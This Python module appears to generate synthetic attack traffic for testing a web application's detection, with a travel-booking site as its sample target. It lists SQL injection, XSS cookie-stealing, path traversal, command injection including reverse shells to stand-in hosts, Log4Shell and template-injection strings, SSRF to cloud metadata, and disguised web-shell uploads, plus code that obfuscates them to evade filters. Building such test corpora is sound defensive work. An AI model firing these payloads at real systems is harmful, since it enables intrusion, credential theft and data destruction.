"""Attacks: payloads by kind, dressed up and put where the platform would read them.

{n}, {m} are numbers, {w} a word, {c} a shell's separator, {host} a name.
"""

import random
from collections.abc import Iterator
from typing import Final

from corpus import sending
from corpus.sending import Sent

WORDS: Final = (
    "item",
    "page",
    "ticket",
    "trip",
    "seat",
    "zed",
    "abc",
    "foo",
    "q",
    "users",
    "admin",
)
HOSTS: Final = ("evil.test", "attacker.test", "x.evil.test", "203.0.113.66", "rogue.example.net")

SQL: Final = """
' or {n}={n}--
' or {n}={n} -- -
' or '{w}'='{w}
') or ('{w}'='{w}
" or "{w}"="{w}
' or {n}={n}#
{n} or {m}={m}
{n}) or ({m}={m}
admin'--
admin' #
admin'/*
{w}' and {n}={m} union select {n},{m},{n}--
-{n} union select null,null,null--
{n} union all select {n},concat(username,0x3a,password),{m} from users--
{w}' union select 1,table_name,3 from information_schema.tables where table_schema=database()--
{n} and sleep({m})
{n}' and sleep({m}) and '{n}'='{n}
{n} and (select {m} from (select(sleep({m})))abc)
{n}; waitfor delay '0:0:{m}'--
{w}'; waitfor delay '0:0:{m}'--
{n};select pg_sleep({m})--
{w}'||pg_sleep({m})--
{n}; drop table {w}--
{w}'; drop table {w};--
{w}'; exec xp_cmdshell('dir')--
{n};insert into {w}(id,name) values({n},'x')--
{w}'; update users set password='{w}' where id={n}--
{n} and ascii(substring((select password from users limit 0,1),1,1))>{m}
{n} and extractvalue(1,concat(0x7e,(select version())))
{w}' and updatexml(1,concat(0x7e,(select user())),1)-- -
{n} and (select count(*) from users)>{m}
{n}' and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from t group by x)a)--
{w}'+(select top 1 name from sysobjects)+'
{w}'||(select banner from v$version where rownum=1)||'
{n} and {m}=utl_inaddr.get_host_address((select user from dual))
{n} and {m}=dbms_pipe.receive_message(chr(65)||chr(66),{m})
{n} order by {m}--
{w}' order by {m}-- -
{n} group by {w} having {n}={n}--
{n} having {m}={m}--
{n} and {m} between {m} and {m}
{n} and not {m}={n}
{n}' and '{w}' like '{w}
{n} procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
{w}' into outfile '/tmp/{w}.txt'--
{n} union select load_file(0x2f6574632f706173737764)
(select case when ({n}={n}) then {m} else {m}*(select {n} from dual) end)
{n} rlike (select (case when ({n}={n}) then {m} else 0x28 end))
{n} and if({n}={n},sleep({m}),0)
if(now()=sysdate(),sleep({m}),0)
{n}'xor(if(now()=sysdate(),sleep({m}),0))xor'z
{n} and exists(select * from {w})
{w}' or exists(select 1 from {w} where name like 'a%')--
' or true--
' or 1 limit 1 -- -
' or username is not null or username='
' or name like '%a%' --
'=' 'or'
'='
' or ''='
{n} and randomblob(1000000000)
{n} and 1=cast((select version()) as int)
{n}' and 1=convert(int,@@version)--
{w}' and {n}=(select {n} from pg_sleep({m}))--
{n},(select sleep({m}))
{n}/**/or/**/{m}={m}
{n}/*!50000union*//*!50000select*/{n},{m}
{n} %26%26 {m}={m}
{w}' || {n}={n} || '
{w}' && {n}={n} && '
select * from users where id={n}
delete from {w} where id={n};
{n} and json_keys((select convert((select concat(0x7e,version())) using utf8)))
{n};declare @q varchar(99);set @q='\\\\{host}\\a';exec master..xp_dirtree @q--
{w}'; copy (select '') to program 'id'--
{n} and gtid_subset(concat(0x7e,version()),1)
{n} and greatest({n},{m})={n}
{n}' and substr(user,1,1)='a'--
{n} union select sqlite_version(),{n}
{n} union select name,sql from sqlite_master
{n} or {w}={w}
{w}'));drop schema public cascade;--
"; select {n}; --
{n} and (select substring(@@version,1,1))='X'
""".strip().splitlines()
XSS: Final = """
<script>alert({n})</script>
<script src=//{host}/a.js></script>
"><script>alert(document.domain)</script>
'><img src=x onerror=alert({n})>
<img src=x onerror=prompt({n})>
<img/src=x/onerror=confirm`{n}`>
<svg onload=alert({n})>
<svg/onload=alert`{n}`>
<svg><script>alert({n})</script></svg>
<body onload=alert({n})>
<iframe src="javascript:alert({n})"></iframe>
<a href="javascript:alert({n})">{w}</a>
<a href=javas&#99;ript:alert({n})>{w}</a>
<details open ontoggle=alert({n})>
<input autofocus onfocus=alert({n})>
<video src=x onerror=alert({n})>
<audio src=x onloadstart=alert({n})>
<marquee onstart=alert({n})>
<math><mtext></table><img src onerror=alert({n})>
<object data="data:text/html,<script>alert({n})</script>">
<embed src=javascript:alert({n})>
<form action=javascript:alert({n})><button>{w}</button></form>
<button formaction=javascript:alert({n})>{w}
<div style="width:expression(alert({n}))">
<style>*{background:url("javascript:alert({n})")}</style>
<link rel=stylesheet href=//{host}/a.css>
<meta http-equiv=refresh content="0;url=javascript:alert({n})">
<base href=//{host}/>
" onmouseover="alert({n})
' onfocus='alert({n})' autofocus='
" autofocus onfocus=alert({n}) x="
x onclick=alert({n})
';alert({n});//
"-alert({n})-"
'-confirm({n})-'
</script><script>alert({n})</script>
javascript:alert({n})
javascript:/*--></title></style>*/alert({n})
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox({n})
{{{{constructor.constructor('alert({n})')()}}}}
{{{{$on.constructor('alert({n})')()}}}}
<x onpointerenter=alert({n})>{w}
<xss onanimationend=alert({n}) style="animation:x">
<select onfocus=alert({n}) autofocus>
<textarea onfocus=alert({n}) autofocus>
<keygen autofocus onfocus=alert({n})>
<isindex action=javascript:alert({n}) type=image>
<iframe srcdoc="<script>alert({n})</script>">
<svg><animate onbegin=alert({n}) attributename=x>
<svg><a xlink:href="javascript:alert({n})"><text>{w}</text></a></svg>
<script>fetch('//{host}/?c='+document.cookie)</script>
<img src=x onerror="eval(atob('YWxlcnQoMSk='))">
eval(String.fromCharCode(97,108,101,114,116))
document.location='//{host}/'+document.cookie
new Image().src='//{host}/?'+document.cookie
window['al'+'ert']({n})
top[/al/.source+/ert/.source]({n})
[].filter.constructor('alert({n})')()
<<script>alert({n});//<</script>
<ScRiPt>alert({n})</sCrIpT>
<script/x>alert({n})</script>
<scr<script>ipt>alert({n})</scr</script>ipt>
<img src="x` `<script>alert({n})</script>"` `>
<noscript><p title="</noscript><img src=x onerror=alert({n})>">
<table background="javascript:alert({n})">
<p onwheel=alert({n})>{w}
""".strip().splitlines()
TRAVERSAL: Final = """
../../../../etc/passwd
../../../../../../etc/shadow
....//....//....//etc/passwd
..\\..\\..\\windows\\win.ini
..//..//..//etc/hosts
/etc/passwd
/etc/shadow
/proc/self/environ
c:\\windows\\system32\\drivers\\etc\\hosts
c:/boot.ini
../../../../boot.ini
../../{w}/../../etc/group
/var/log/apache2/access.log
../../wp-config.php
../.env
../../../../proc/self/cmdline
/var/www/html/../../../etc/passwd
..;/..;/etc/passwd
/root/.ssh/id_rsa
\\\\{host}\\share\\{w}
..%c0%af..%c0%af..%c0%afetc/passwd
../../../../../../../../etc/passwd%00.jpg
{w}/../../../../WEB-INF/web.xml
/home/{w}/.ssh/authorized_keys
php://filter/convert.base64-encode/resource=index.php
php://input
phar://{w}.jpg/{w}
expect://id
zip://{w}.zip#{w}
data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+
http://{host}/shell.txt?
file:///etc/passwd
""".strip().splitlines()
SHELL: Final = """
{c}cat /etc/passwd
{c} cat /etc/hosts
{c}id
{c}whoami
{c} whoami
{c}uname -a
{c}ls -la
{c} ls /
{c}sleep {n}
{c} ping -c {n} 127.0.0.1
{c}wget http://{host}/a.sh
{c} curl http://{host}/{w}
{c}nc -e /bin/sh {host} {n}
{c}bash -i >& /dev/tcp/{host}/{n} 0>&1
{c}ifconfig
{c}netstat -an
{c}echo {w}|base64 -d|sh
{c}cat${{IFS}}/etc/passwd
{c}cat$IFS$9/etc/passwd
{c}/bin/cat /etc/passwd
{c}c'a't /etc/passwd
{c}w\\hoami
{c}/???/c?t /???/p??s??
{c}{{cat,/etc/passwd}}
{c}powershell -enc SQBFAFgA{n}
{c}cmd /c dir
{c}cmd.exe /c whoami
{c}type c:\\windows\\win.ini
{c}dir c:\\
{c}nslookup {host}
{c}python -c 'import os'
{c}perl -e 'print {n}'
{c}rm -rf /
{c}touch /tmp/{w}
$(id)
$(cat /etc/passwd)
`id`
`whoami`
`sleep {n}`
$(sleep {n})
$(curl {host})
<!--#exec cmd="ls" -->
() {{ :;}}; /bin/bash -c "id"
() {{ :; }}; echo {w}
""".strip().splitlines()
CODE: Final = """
<?php system($_GET['c']); ?>
<?= `id` ?>
<?php phpinfo(); ?>
phpinfo()
system('id')
eval($_POST['x']);
assert($_REQUEST['{w}'])
${{@print(md5({n}))}}
${{jndi:ldap://{host}/a}}
${{jndi:rmi://{host}:1099/{w}}}
${{${{lower:j}}ndi:${{lower:l}}dap://{host}/a}}
${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{host}/x}}
${{${{env:NaN:-j}}ndi${{env:NaN:-:}}ldap://{host}/x}}
${{jndi:dns://{host}}}
%{{(#a=@java.lang.Runtime@getRuntime().exec('id'))}}
%{{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}}
T(java.lang.Runtime).getRuntime().exec('id')
${{T(java.lang.Runtime).getRuntime().exec('id')}}
#{{T(java.lang.Math).random()}}
new java.lang.ProcessBuilder('id').start()
class.module.classLoader.resources.context.parent.pipeline.first.pattern={w}
{{{{{n}*{m}}}}}
${{{n}*{m}}}
#{{{n}*{m}}}
<%= {n}*{m} %>
*{{{n}*{m}}}
{{{{{n}*'{m}'}}}}
{{{{config}}}}
{{{{config.items()}}}}
{{{{request.application.__globals__}}}}
{{{{''.__class__.__mro__[1].__subclasses__()}}}}
{{{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}}}
{{% for x in ().__class__.__base__.__subclasses__() %}}{{% endfor %}}
{{{{_self.env.registerUndefinedFilterCallback('exec')}}}}
{{{{['id']|filter('system')}}}}
{{php}}echo `id`;{{/php}}
{{system('id')}}
<#assign ex="freemarker.template.utility.Execute"?new()>${{ex("id")}}
#set($x={n}*{m})${{x}}
@({n}*{m})
[[${{{n}*{m}}}]]
__import__('os').system('id')
require('child_process').exec('id')
process.mainModule.require('child_process').execSync('id')
global.process.exit()
import os; os.system('id')
eval('{n}*{m}')
""".strip().splitlines()
SSRF: Final = """
http://169.254.169.254/latest/meta-data/
http://metadata.google.internal/computeMetadata/v1/
http://100.100.100.200/latest/meta-data/
http://127.0.0.1:{n}/admin
http://localhost/server-status
http://localhost:{n}/
http://[::1]/
http://[::ffff:127.0.0.1]/
http://0x7f000001/
http://2130706433/
http://017700000001/
http://0177.0.0.1/
http://127.1/
http://0/
http://0.0.0.0:{n}/
http://127.0.0.1.nip.io/
http://10.0.0.{n}/
http://192.168.1.1/
http://172.16.0.1:{n}/
gopher://127.0.0.1:6379/_SET%20a%20b
dict://127.0.0.1:11211/stat
file:///etc/hosts
ftp://127.0.0.1/
ldap://{host}:389/a
jar:http://{host}/a.jar!/
http://user@127.0.0.1/
http://localtest.me/
http://2852039166/latest/
http://0xa9fea9fe/
https://{w}.burpcollaborator.net/
netdoc:///etc/passwd
http://instance-data/latest/
""".strip().splitlines()
OTHER: Final = """
*)(uid=*))(|(uid=*
admin)(&)
*)(objectClass=*)
admin)(!(&(1=0
{w})(|(password=*)
' or count(/*)={n} or 'a'='b
' or string-length(name(/*[1]))={n} or 'a'='b
{w}'] | //user/*[contains(*,'
'] | //* | a['
{{"$ne": null}}
{{"$gt": ""}}
{{"$where": "sleep({n})"}}
{{"$regex": "^a"}}
'; return true; var x='
' || this.password.match(/.*/)//
true, $where: '1 == 1'
rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==
O:{n}:"stdClass":{m}:{{s:1:"a";}}
O:8:"{w}Cache":1:{{s:4:"file";s:5:"a.php";}}
a:{n}:{{i:0;O:3:"Foo":0:{{}}}}
!!python/object/apply:os.system ["id"]
!!javax.script.ScriptEngineManager []
gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=
<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
<!DOCTYPE a [<!ENTITY % b SYSTEM "http://{host}/a.dtd"> %b;]>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
{w}\\r\\nSet-Cookie: {w}={n}
{w}\\r\\nLocation: http://{host}/
{w}\\r\\n\\r\\n<html><script>alert({n})</script>
{w}\\nSet-Cookie:{w}={n}
=cmd|' /C calc'!A{n}
//{host}\\@booking.example
""".strip().splitlines()
NAMES: Final = """
a[$ne]
user[$gt]
password[$regex]
q[$where]
__proto__[admin]
constructor[prototype][admin]
__proto__.polluted
class.module.classLoader.urls
' or {n}={n}--
<script>alert({n})</script>
${{jndi:ldap://{host}/a}}
""".strip().splitlines()
PATHS: Final = """
/.git/config
/.git/HEAD
/.env
/.env.production
/app/.env
/.svn/entries
/.aws/credentials
/.ssh/id_rsa
/.htpasswd
/.DS_Store
/wp-login.php
/wp-admin/
/wordpress/wp-admin/setup-config.php
/wp-content/plugins/{w}/a.php
/xmlrpc.php
/phpmyadmin/index.php
/pma/
/phpMyAdmin-{n}/
/adminer.php
/actuator/env
/actuator/heapdump
/actuator/gateway/routes
/solr/admin/info/system
/manager/html
/jenkins/script
/cgi-bin/test.cgi
/cgi-bin/.%2e/.%2e/.%2e/etc/passwd
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/shell.php
/phpinfo.php
/info.php
/server-status
/HNAP1/
/boaform/admin/formLogin
/owa/auth/logon.aspx
/_ignition/execute-solution
/backup.zip
/backup.sql
/db.sql.gz
/dump.sql
/config.php.bak
/web.config
/.well-known/../.git/config
/index.php.bak
/docker-compose.yml
/console/login/LoginForm.jsp
/struts2-showcase/index.action
/telescope/requests
/v2/api-docs
/swagger-ui.html
/%2e%2e/%2e%2e/etc/passwd
/static/..%2f..%2f..%2fetc/passwd
/static/..;/..;/WEB-INF/web.xml
/search/%27%20or%20{n}={n}--
/{w}/<script>alert({n})</script>
/{w}/%3Cscript%3Ealert({n})%3C/script%3E
/{w}/${{jndi:ldap:{host}}}
/{w}/{n}%20union%20select%20{n},{m}
/{w};cat%20/etc/passwd
/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
/etc/passwd
""".strip().splitlines()
AGENTS: Final = """
sqlmap/1.{n}#stable (https://sqlmap.org)
Mozilla/5.00 (Nikto/2.{n}) (Evasions:None) (Test:00{n})
Nmap Scripting Engine; https://nmap.org/book/nse.html
gobuster/3.{n}
Fuzz Faster U Fool v2.{n}
Mozilla/5.0 (compatible; Nuclei - Open-source project)
WPScan v3.{n} (https://wpscan.com/)
masscan/1.{n}
dirbuster-1.0-rc{n}
Wfuzz/3.{n}
Mozilla/5.0 zgrab/0.{n}
Acunetix-Product
feroxbuster/2.{n}
Arachni/v1.{n}
""".strip().splitlines()
UPLOADS: Final = (
    ("{w}.php", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF"),
    ("{w}.php5", "application/octet-stream", b"x"),
    ("{w}.phtml", "image/png", b"x"),
    ("{w}.pHp", "image/png", b"x"),
    ("{w}.php.jpg", "image/jpeg", b"x"),
    ("{w}.jpg.php", "image/jpeg", b"x"),
    ("{w}.php%00.jpg", "image/jpeg", b"x"),
    ("{w}.php.", "image/jpeg", b"x"),
    ("{w}.jsp", "image/jpeg", b"x"),
    ("{w}.aspx", "image/jpeg", b"x"),
    ("{w}.asp;.jpg", "image/jpeg", b"x"),
    (".htaccess", "text/plain", b"AddType application/x-httpd-php .jpg"),
    ("../../{w}.jpg", "image/jpeg", b"x"),
    ("{w}.exe", "application/octet-stream", b"MZ"),
    ("{w}.sh", "text/plain", b"#!/bin/sh\nid\n"),
    ("{w}.html", "text/html", b"<script>alert(1)</script>"),
    ("{w}.svg", "image/svg+xml", b"<svg xmlns='x'><script>alert(1)</script></svg>"),
    ("{w}.jpg", "image/jpeg", b"\xff\xd8\xff\xe0JFIF<?php system($_GET[0]);?>"),
    ("{w}.gif", "image/gif", b"GIF89a<?php eval($_POST['x']);?>"),
    ("{w}.png", "image/png", b"\x89PNG\r\n\x1a\n<?= system('id') ?>"),
    ("<script>alert(1)</script>.jpg", "image/jpeg", b"x"),
    ("{w}.war", "application/zip", b"PK"),
    ("{w}.jpg", "application/x-php", b"x"),
    ("{w}.shtml", "text/plain", b"x"),
)
# kind: payloads, share of all attacks, ways of disguise
_KINDS: Final = {
    "sql": (SQL, 28),
    "xss": (XSS, 22),
    "traversal": (TRAVERSAL, 8),
    "shell": (SHELL, 12),
    "code": (CODE, 12),
    "ssrf": (SSRF, 7),
    "other": (OTHER, 8),
}
_SEPARATORS: Final = (";", "|", "||", "&&", "&", "\n", "127.0.0.1;", "x|", "8.8.8.8 && ", "a; ")
_BLANKS: Final = ("/**/", "\t", "\n", "\x0b", "  ", "/*{w}*/", "\x0c", "\xa0")
_FIELDS: Final = ("q", "id", "name", "page", "file", "url", "comment", "search", "sort", "email")


def attacks(number: int, seed: int) -> list[Sent]:
    dice = random.Random(seed)
    return [_one(dice) for _ in range(number)]


def payloads() -> Iterator[str]:
    for kind in (SQL, XSS, TRAVERSAL, SHELL, CODE, SSRF, OTHER, NAMES, PATHS, AGENTS):
        yield from kind


def _one(dice: random.Random) -> Sent:
    draw = dice.random()
    if draw < 0.06:
        path = _filled(dice.choice(PATHS), dice)
        return Sent("GET", path.encode(), sending.browser(dice), about=path)
    if draw < 0.08:
        agent = _filled(dice.choice(AGENTS), dice)
        return Sent("GET", b"/trips", sending.browser(dice, agent), about=agent)
    if draw < 0.11:
        return _upload(dice)
    if draw < 0.14:
        return _named(dice)
    kinds = list(_KINDS)
    kind = dice.choices(kinds, [_KINDS[one][1] for one in kinds])[0]
    payload = _filled(dice.choice(_KINDS[kind][0]), dice)
    return _placed(_disguised(payload, kind, dice), kind, dice)


def _filled(text: str, dice: random.Random) -> str:
    made = text.replace("\\r", "\r").replace("\\n", "\n")
    for name, value in (
        ("n", str(dice.randrange(3, 60))),
        ("m", str(dice.randrange(2, 9))),
        ("w", dice.choice(WORDS)),
        ("c", dice.choice(_SEPARATORS)),
        ("host", dice.choice(HOSTS)),
    ):
        made = made.replace("{" + name + "}", value)
    return made.replace("{{", "{").replace("}}", "}")


def _disguised(payload: str, kind: str, dice: random.Random) -> str:
    if kind == "sql" and dice.random() < 0.3:
        blank = _filled(dice.choice(_BLANKS), dice)
        payload = payload.replace(" ", blank) if "-- " not in payload else payload
    if kind in {"sql", "xss"} and dice.random() < 0.4 and "fromCharCode" not in payload:
        payload = "".join(dice.choice((one.lower(), one.upper())) for one in payload)
    if kind == "xss" and dice.random() < 0.1:
        payload = dice.choice(("hello ", "1 ", '"', "ولد ")) + payload
    return payload


def _placed(payload: str, kind: str, dice: random.Random) -> Sent:
    field, place = dice.choice(_FIELDS), dice.random()
    slyly = dice.random() < 0.25
    write = dice.choice(sending.SLYLY if slyly else sending.PLAINLY)
    if kind != "xss" and write in {sending.entities, sending.full_width}:
        write = sending.twice
    more = [("lang", "ar"), ("from", "2026-12-01"), ("city", "Baghdad")]
    if place < 0.35:
        pairs = [*more[: dice.randrange(3)], (field, write(payload, dice))]
        if dice.random() < 0.15:  # the same name, first with something harmless
            pairs.insert(0, (field, "1"))
        return sending.by_query(dice, "/search", pairs, payload)
    if place < 0.6:
        pairs = [*more, (field, write(payload, dice))]
        dice.shuffle(pairs)
        return sending.by_form(dice, "/book", pairs, payload)
    if place < 0.75:
        document: object = {"trip": 7, field: payload}
        if dice.random() < 0.4:
            document = {"data": [{"deep": {field: payload}}], "n": 1}
        return sending.by_json(dice, "/api/v1/book", document, payload)
    if place < 0.83:
        return sending.by_multipart(dice, "/book", [("trip", "7"), (field, payload)], [], payload)
    if place < 0.9 or "\n" in payload or "\r" in payload:
        value = sending.percent(payload, dice)
        return sending.with_header(dice, "/", "cookie", f"lang=ar; {field}={value}", payload)
    name = dice.choice(["user-agent", "referer", "x-forwarded-for", "x-api-version"])
    if kind in {"traversal", "ssrf", "other"} or (name == "x-api-version" and kind != "code"):
        return sending.by_query(dice, "/view", [(field, write(payload, dice))], payload)
    if name == "referer":
        payload = f"https://x.example/?q={sending.percent(payload, dice)}"
    return sending.with_header(dice, "/", name, payload, payload)


def _upload(dice: random.Random) -> Sent:
    name, kind, content = dice.choice(UPLOADS)
    name = _filled(name, dice)
    file = ("photo", name, kind, content)
    return sending.by_multipart(dice, "/upload", [("trip", "7")], [file], f"{name} {content!r}")


def _named(dice: random.Random) -> Sent:
    name = _filled(dice.choice(NAMES), dice)
    if dice.random() < 0.3:
        return sending.by_json(dice, "/api/v1/login", {"user": {"$ne": dice.choice(WORDS)}}, "$ne")
    pairs = [("user", "a"), (sending.percent(name, dice), "1")]
    how = sending.by_query if dice.random() < 0.5 else sending.by_form
    return how(dice, "/login", pairs, name)
